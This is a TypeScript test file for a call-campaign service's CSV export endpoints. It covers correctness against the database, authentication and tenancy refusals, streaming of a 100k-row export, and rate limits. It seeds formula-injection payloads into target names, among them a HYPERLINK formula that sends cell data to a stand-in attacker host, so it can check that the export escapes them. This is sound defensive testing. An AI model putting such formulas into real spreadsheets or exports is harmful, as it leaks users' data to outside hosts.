// Results export (issue 13): GET /export/outdials/{uuid}/targets.csv and /export/campaigns/{uuid}/attempts.csv
// against a real server and database: the CSV (parsed by csv-parse) equals the rows, tenancy and sign-in as
// /graphql, formula-safe cells, and a 100k-row export streamed page by page with backpressure and flat memory.
import { Writable } from 'node:stream';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { get, type IncomingMessage } from 'node:http';
import { parse } from 'csv-parse';
import { parse as parseSync } from 'csv-parse/sync';
import { beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { createLogger } from '../src/logger.ts';
import { exportCost } from '../src/http-export.ts';
import { EXPORT_PAGE_ROWS } from '../src/domain/results-export.ts';
import type { Database } from '../src/db/database.ts';
import { useTestApp, login } from './helpers/app.ts';
import { createCampaignRows, runCampaign, waitForCampaign, type CampaignRows } from './helpers/campaign.ts';

const logs: Record<string, any>[] = [];
const sink = new Writable({
  write(chunk, _enc, done) {
    for (const line of String(chunk).split('\n')) if (line.trim()) logs.push(JSON.parse(line));
    done();
  },
});

// The heap measured after a full collection: what is retained, not garbage not yet collected.
setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;
const retainedMemory = () => {
  gc();
  const { heapUsed, external } = process.memoryUsage(); // external: the Buffers a response holds
  return heapUsed + external;
};

const BUDGET = 1_000_000;
const t = useTestApp(
  { SIMULATOR_TIME_SCALE: '1000', DIALER_POLL_MS: '200', RATE_LIMIT_COST: String(BUDGET) },
  { logger: createLogger('info', {}, sink) },
);
let db: Database;
let rows: CampaignRows;
let otherToken: string;
let otherCustomerId: string;
let otherOutdialId: string;

const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1,2)', '-2+3', '@cmd', '\tTAB', '\rCR'];

const fetchExport = (path: string, headers: Record<string, string> = {}) =>
  fetch(new URL(path, t.url), { headers: { authorization: `Bearer ${t.token}`, ...headers } });

/** A cell the export escaped (a leading ' before a formula character), as it was stored. */
const unescaped = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
const iso = (d: Date | null) => d?.toISOString() ?? '';
const text = (v: unknown) => (v === null || v === undefined ? '' : String(v));

beforeAll(async () => {
  db = await t.database.open();
  // A campaign run to its end on the simulator: real attempts and calls (busy, no answer, answered).
  rows = await createCampaignRows(db, {
    name: 'export', maxTryCounts: [2, 1, 0, 0, 0],
    targets: [['+15550000001', 'u1@sip.example.com'], ['+15550107777'], ['+15550000002', '+15550017777'], ['+15550000003']],
  });
  const targets = await db.prisma.outdialTarget.findMany({ where: { outdialId: rows.outdialId }, orderBy: [{ createdAt: 'asc' }, { id: 'asc' }] });
  // Names, details and data a spreadsheet would run, and text that needs RFC 4180 quoting.
  await db.prisma.outdialTarget.update({ where: { id: targets[0].id }, data: { name: INJECTIONS[0], detail: 'a "quoted", comma\r\nand a line break', data: INJECTIONS[1] } });
  await db.prisma.outdialTarget.update({ where: { id: targets[1].id }, data: { name: INJECTIONS[2], detail: INJECTIONS[3], data: 'ünïcødé ✓' } });
  await db.prisma.outdialTarget.update({ where: { id: targets[2].id }, data: { name: INJECTIONS[4], detail: INJECTIONS[5] } });
  await runCampaign({ prisma: db.prisma, bus: t.app.services.bus }, rows.customerId, rows.campaignId);
  await waitForCampaign(db, rows.campaignId, (c) => c.status === 'STOP');

  const created = await t.gql('mutation { customerCreate(input: {name: "export-b", username: "export-b", password: "export-b-password"}) { customer { id } userErrors { message } } }');
  expect(created.errors).toBeUndefined();
  otherToken = await login(t.url, 'export-b', 'export-b-password');
  otherCustomerId = (await db.prisma.customer.findUniqueOrThrow({ where: { name: 'export-b' } })).id;
  const outdial = await db.prisma.outdial.create({ data: { customerId: otherCustomerId, name: 'b list' } });
  otherOutdialId = outdial.id;
  await db.prisma.outdialTarget.create({ data: { customerId: otherCustomerId, outdialId: outdial.id, name: 'b only', destination0: { type: 'TEL', target: '+15559999999' } } });
}, 120_000);

describe('targets.csv', () => {
  it('has a header row and one row per target, equal to the database, RFC 4180 and parseable by csv-parse', async () => {
    const res = await fetchExport(`/export/outdials/${rows.outdialId}/targets.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="outdial-${rows.outdialId}-targets.csv"`);
    const body = await res.text();
    expect(body.endsWith('\r\n')).toBe(true); // CRLF after every record, the last one too
    const [header, ...records] = parseSync(body, { relax_column_count: false }) as string[][];
    expect(header.slice(0, 10)).toEqual(['target_uuid', 'name', 'detail', 'data', 'status', 'result', 'time_zones', 'destination_0_type', 'destination_0', 'try_count_0']);
    const targets = await db.prisma.outdialTarget.findMany({ where: { outdialId: rows.outdialId, deletedAt: null }, orderBy: [{ createdAt: 'asc' }, { id: 'asc' }] });
    expect(targets.some((x) => x.status === 'DONE')).toBe(true);
    const expected = targets.map((x) => {
      const row: Record<string, string> = {
        target_uuid: x.id, name: x.name, detail: x.detail, data: x.data, status: x.status, result: text(x.result), time_zones: x.timeZones.join(' '),
        last_attempt_at: iso(x.lastAttemptAt), last_attempt_ended_at: iso(x.lastAttemptEndedAt), created_at: iso(x.createdAt), updated_at: iso(x.updatedAt),
      };
      for (let i = 0; i < 5; i++) {
        const d = (x as Record<string, any>)[`destination${i}`] as { type: string; target: string } | null;
        row[`destination_${i}_type`] = d?.type ?? '';
        row[`destination_${i}`] = d?.target ?? '';
        row[`try_count_${i}`] = String((x as Record<string, any>)[`tryCount${i}`]);
      }
      return row;
    });
    expect(records.map((r) => Object.fromEntries(header.map((h, i) => [h, unescaped(r[i])])))).toEqual(expected);
  });

  it('escapes every cell a spreadsheet would run as a formula, and leaves E.164 numbers usable', async () => {
    const body = await (await fetchExport(`/export/outdials/${rows.outdialId}/targets.csv`)).text();
    const cells = (parseSync(body) as string[][]).slice(1).flat();
    for (const injection of INJECTIONS) expect(cells).toContain(`'${injection}`);
    for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^\+[0-9]+$/);
    expect(cells).toContain('+15550000001');
    expect(body).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'); // quoted, quotes doubled
  });

  it('takes the token as a Bearer header, the token query parameter or the token cookie', async () => {
    const path = `/export/outdials/${rows.outdialId}/targets.csv`;
    const byQuery = await fetch(new URL(`${path}?token=${encodeURIComponent(t.token)}`, t.url));
    expect(byQuery.status).toBe(200);
    const byCookie = await fetch(new URL(path, t.url), { headers: { cookie: `token=${t.token}`, 'sec-fetch-site': 'same-origin' } });
    expect(byCookie.status).toBe(200);
    expect((await byCookie.text()).split('\r\n').length).toBe((await byQuery.text()).split('\r\n').length);
    // Another site can make the browser send the cookie, not read the answer; it is refused all the same.
    const crossSite = await fetch(new URL(path, t.url), { headers: { cookie: `token=${t.token}`, 'sec-fetch-site': 'cross-site' } });
    expect(crossSite.status).toBe(403);
    expect((await crossSite.json()).errors[0].extensions.code).toBe('BAD_REQUEST');
  });
});

describe('attempts.csv', () => {
  it('has one row per campaign call with its call, equal to the database', async () => {
    const res = await fetchExport(`/export/campaigns/${rows.campaignId}/attempts.csv`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="campaign-${rows.campaignId}-attempts.csv"`);
    const [header, ...records] = parseSync(await res.text()) as string[][];
    const attempts = await db.prisma.campaignCall.findMany({
      where: { campaignId: rows.campaignId }, include: { call: true, outdialTarget: true }, orderBy: [{ createdAt: 'asc' }, { id: 'asc' }],
    });
    // Busy twice then answered on slot 1; answered; no answer twice then answered on slot 1; failed twice.
    expect(attempts.length).toBe(9);
    expect(attempts.map((a) => a.call?.hangupReason)).toContain('BUSY');
    // The outcome column: BUSY, NO_ANSWER and FAILED attempts, empty where a person answered.
    expect(new Set(attempts.map((a) => a.outcome))).toEqual(new Set(['BUSY', 'NO_ANSWER', 'FAILED', null]));
    const expected = attempts.map((a) => {
      const d = a.destination as { type: string; target: string };
      return {
        attempt_uuid: a.id, target_uuid: a.outdialTargetId, target_name: a.outdialTarget.name, destination_index: String(a.destinationIndex),
        destination_type: d.type, destination: d.target, try_count: String(a.tryCount), status: a.status, result: text(a.result),
        outcome: text(a.outcome), call_uuid: text(a.callId), call_status: text(a.call?.status), hangup_by: text(a.call?.hangupBy), hangup_reason: text(a.call?.hangupReason),
        started_at: iso(a.createdAt), ringing_at: iso(a.call?.ringingAt ?? null), answered_at: iso(a.call?.progressingAt ?? null),
        hangup_at: iso(a.call?.hangupAt ?? null), updated_at: iso(a.updatedAt),
      };
    });
    expect(records.map((r) => Object.fromEntries(header.map((h, i) => [h, unescaped(r[i])])))).toEqual(expected);
    expect(records.find((r) => r[1] === attempts.find((a) => a.outdialTarget.name === INJECTIONS[0])!.outdialTargetId)?.[2]).toBe(`'${INJECTIONS[0]}`);
  });
});

describe('refusals, before the first byte', () => {
  const codeOf = async (res: Response) => ({ status: res.status, ...(await res.json()).errors[0] });

  it('401 without a token or with a bad one, with the messages of UNAUTHENTICATED', async () => {
    const path = `/export/outdials/${rows.outdialId}/targets.csv`;
    expect(await codeOf(await fetch(new URL(path, t.url)))).toEqual({
      status: 401, message: 'Authentication required: send a token (Authorization: Bearer <token>).', extensions: { code: 'UNAUTHENTICATED' },
    });
    expect(await codeOf(await fetchExport(path, { authorization: 'Bearer not-a-token' }))).toEqual({
      status: 401, message: 'Token not valid: not issued here, or its user or access key was deleted. Sign in again (login).', extensions: { code: 'UNAUTHENTICATED' },
    });
  });

  it("404 for another customer's outdial or campaign, an unknown uuid, or a uuid of another type; the other customer sees its own", async () => {
    for (const path of [
      `/export/outdials/${rows.outdialId}/targets.csv`,
      `/export/campaigns/${rows.campaignId}/attempts.csv`,
    ]) {
      const res = await fetchExport(path, { authorization: `Bearer ${otherToken}` });
      expect(await codeOf(res)).toMatchObject({ status: 404, extensions: { code: 'NOT_FOUND' } });
    }
    expect(await codeOf(await fetchExport(`/export/outdials/${otherOutdialId}/targets.csv`))).toMatchObject({ status: 404, extensions: { code: 'NOT_FOUND' } });
    expect(await codeOf(await fetchExport(`/export/outdials/${rows.campaignId}/targets.csv`))).toMatchObject({ status: 404 });
    expect(await codeOf(await fetchExport('/export/outdials/00000000-0000-7000-8000-000000000000/targets.csv'))).toMatchObject({ status: 404 });
    expect(await codeOf(await fetchExport(`/export/outdials/${rows.outdialId}/attempts.csv`))).toMatchObject({ status: 404 });
    const own = await fetchExport(`/export/outdials/${otherOutdialId}/targets.csv`, { authorization: `Bearer ${otherToken}` });
    const records = parseSync(await own.text()) as string[][];
    expect(records.slice(1).map((r) => r[1])).toEqual(['b only']);
  });

  it('400 for a malformed uuid, 405 for another method', async () => {
    expect(await codeOf(await fetchExport('/export/outdials/not-a-uuid/targets.csv'))).toMatchObject({ status: 400, extensions: { code: 'BAD_USER_INPUT' } });
    const post = await fetch(new URL(`/export/outdials/${rows.outdialId}/targets.csv`, t.url), { method: 'POST', headers: { authorization: `Bearer ${t.token}` } });
    expect(post.status).toBe(405);
  });
});

/** Streams a GET, calling onChunk with each chunk as it arrives; resolves with the response. */
function open(path: string): Promise<IncomingMessage> {
  return new Promise((resolve, reject) => {
    get(new URL(path, t.url), { headers: { authorization: `Bearer ${t.token}` } }, resolve).on('error', reject);
  });
}

describe('a 100k-row export', () => {
  const ROWS = 100_000;
  let outdialId: string;

  beforeAll(async () => {
    outdialId = (await db.prisma.outdial.create({ data: { customerId: rows.customerId, name: 'big' } })).id;
    // One statement, so every row has the same created_at: the pages are told apart by id.
    await db.prisma.$executeRawUnsafe(
      `INSERT INTO outdial_target (id, customer_id, outdial_id, name, detail, destination_0)
       SELECT gen_random_uuid(), $1::uuid, $2::uuid, 'target ' || i, repeat('x', 500), jsonb_build_object('type', 'TEL', 'target', '+1555' || lpad(i::text, 7, '0'))
       FROM generate_series(1, ${ROWS}) i`,
      rows.customerId, outdialId);
  }, 120_000);

  it('streams with backpressure and flat memory: a row added while the client pauses is in it, every row once', async () => {
    // The server's own database client, counting the export's page statements (and passing them on).
    const query = t.db.query;
    let pagesRead = 0;
    t.db.query = ((sql: string, values?: unknown[]) => {
      if (sql.startsWith('WITH page AS')) pagesRead++;
      return query(sql, values);
    }) as typeof query;
    onTestFinished(() => {
      t.db.query = query;
    });
    const baseline = retainedMemory();
    let peak = baseline;
    const res = await open(`/export/outdials/${outdialId}/targets.csv`);
    expect(res.statusCode).toBe(200);
    const parser = parse({ from_line: 2 });
    let count = 0;
    let previous = '';
    let ordered = true;
    let last: string[] = [];
    parser.on('data', (record: string[]) => {
      // Every row once: the ids of rows with one created_at come in increasing order.
      if (record[1] !== 'added while paused') ordered &&= record[0] > previous;
      previous = record[0];
      count++;
      last = record;
    });
    let received = 0;
    let sampledAt = 0;
    res.on('data', (chunk: Buffer) => {
      received += chunk.length;
      if (received - sampledAt > 4 * 2 ** 20) {
        sampledAt = received;
        peak = Math.max(peak, retainedMemory());
      }
    });
    const parsed = new Promise((resolve, reject) => parser.on('end', resolve).on('error', reject));
    // The first bytes come before the export has read its last page: pause there, add a row that sorts last.
    const first = await new Promise<Buffer>((resolve) => res.once('data', (chunk: Buffer) => {
      res.pause(); // at once: a flowing stream would emit the next chunks before this promise's await returns
      resolve(chunk);
    }));
    parser.write(first);
    // Paused, the server stops once the socket's buffers are full: it reads no further page (the 100,000 rows are
    // 20 pages and 60 MB, far more than the buffers hold).
    let stalled = pagesRead;
    for (let still = 0; still < 10; still = pagesRead === stalled ? still + 1 : 0) {
      stalled = pagesRead;
      await new Promise((r) => setTimeout(r, 100));
    }
    expect(pagesRead).toBeGreaterThan(0);
    expect(pagesRead).toBeLessThan(ROWS / EXPORT_PAGE_ROWS);
    peak = Math.max(peak, retainedMemory());
    const added = await db.prisma.outdialTarget.create({ data: { customerId: rows.customerId, outdialId, name: 'added while paused' } });
    res.pipe(parser);
    res.resume();
    await parsed;
    expect(count).toBe(ROWS + 1);
    expect(ordered).toBe(true);
    expect(received).toBeGreaterThan(ROWS * 500);
    expect(last[0]).toBe(added.id);
    expect(last[1]).toBe('added while paused');
    const growthMb = (peak - baseline) / 2 ** 20;
    // A server holding the whole export would hold its 60 MB of text (heap or Buffers), and more of rows.
    expect(growthMb).toBeLessThan(50);
    const line = logs.find((l) => l.msg === 'export' && l.id === outdialId);
    expect(line).toMatchObject({ rows: ROWS + 1, clientGone: false });
  }, 120_000);

  it('stops reading pages when the client goes away', async () => {
    const res = await open(`/export/outdials/${outdialId}/targets.csv`);
    await new Promise((resolve) => res.once('data', resolve));
    res.destroy();
    const deadline = Date.now() + 30_000;
    let line: Record<string, any> | undefined;
    while (!(line = logs.find((l) => l.msg === 'export stopped: the client went away' && l.id === outdialId)) && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 50));
    }
    expect(line).toBeDefined();
    expect(line!.rows).toBeLessThan(ROWS);
  }, 60_000);
});

describe('rate limit', () => {
  it('charges 1 per row rounded up to the thousand, and refuses with 429 once the budget is spent', async () => {
    expect([exportCost(0, BUDGET), exportCost(1000, BUDGET), exportCost(1001, BUDGET), exportCost(5_000_000, BUDGET)]).toEqual([1000, 1000, 2000, BUDGET]);
    const path = `/export/outdials/${otherOutdialId}/targets.csv`;
    const first = await fetchExport(path, { authorization: `Bearer ${otherToken}` });
    const second = await fetchExport(path, { authorization: `Bearer ${otherToken}` });
    await Promise.all([first.text(), second.text()]);
    expect(Number(first.headers.get('ratelimit-remaining')) - Number(second.headers.get('ratelimit-remaining'))).toBe(1000);
    const budget = t.app.services.auth.costBudget!;
    await budget.charge({ customerId: otherCustomerId, ip: '' }, Number(second.headers.get('ratelimit-remaining')) - 500);
    const refused = await fetchExport(path, { authorization: `Bearer ${otherToken}` });
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    expect((await refused.json()).errors[0].extensions.code).toBe('RATE_LIMITED');
  });
});
